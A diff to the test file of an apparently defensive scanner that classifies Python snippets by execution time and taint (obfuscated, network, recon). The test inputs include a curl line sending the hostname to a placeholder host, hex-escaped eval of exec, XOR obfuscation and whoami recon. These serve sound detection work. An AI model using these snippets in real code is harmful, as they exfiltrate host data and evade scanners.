@@ -123,6 +123,10 @@ test('execution context: setup.py is install time, module level and what it call
   assert.deepEqual(facts('import os\ndef f():\n    os.system("x")\nif __name__ == "__main__":\n    f()'), ['process:call:']);
   assert.deepEqual(facts('import os\ndef f():\n    os.system("x")'), ['process:call:']);
   assert.deepEqual(facts('import os\nos.system("x")', 'tests/test_x.py'), ['process:unshipped:']);
+  // A function handed to a thread or an exit handler at module level runs when the module is imported.
+  assert.deepEqual(facts('import os, threading\ndef f():\n    os.system("x")\nthreading.Thread(target=f).start()'), ['process:import:']);
+  assert.deepEqual(facts('import os, atexit\ndef f():\n    os.system("x")\natexit.register(f)'), ['process:import:']);
+  assert.deepEqual(facts('import os, threading\ndef f():\n    os.system("x")\ndef start():\n    threading.Thread(target=f).start()'), ['process:call:']);
 });
 
 test('a download and a process are one act only when the data flows from one to the other', () => {
@@ -149,6 +153,16 @@ test('a file written from a literal and then run is a script of that process; a 
   assert.deepEqual(scriptsOf(byPath), ['print(2)  # the inert script']);
   const notRun = 'import subprocess\nwith open("notes.txt", "w") as f:\n    f.write("print(3)  # only text here")\nsubprocess.run(["git", "status"])';
   assert.deepEqual(scriptsOf(notRun), []);
+});
+
+test('folding: eval of a literal name resolves it, XOR of unknowns is obfuscated, curl output is network data, a curl command line is a send', () => {
+  assert.deepEqual(fold('f = eval("\\x65\\x78\\x65\\x63")\nf'), { text: '<builtins.exec>', taints: ['obfuscated'] });
+  assert.deepEqual(fold('m = eval("__import__(\'base64\')")\nm'), { text: '<base64>', taints: ['obfuscated'] });
+  assert.deepEqual(fold('chr(ord(a) ^ ord(b))').taints, ['obfuscated']);
+  assert.deepEqual(fold('chr(ord(a) + 1)').taints, []);
+  assert.deepEqual(fold('import subprocess\nsubprocess.getoutput("curl -s https://example.invalid/x")').taints, ['network']);
+  assert.deepEqual(fold('import os\nos.popen("whoami").read()').taints, ['recon']);
+  assert.deepEqual(facts('import os, socket\nos.system("curl -d " + socket.gethostname() + " https://example.invalid/c")'), ['process:import:recon', 'network:import:recon']);
 });
 
 test('command lines: PowerShell -EncodedCommand is decoded, python -c is kept for a Python scan', () => {
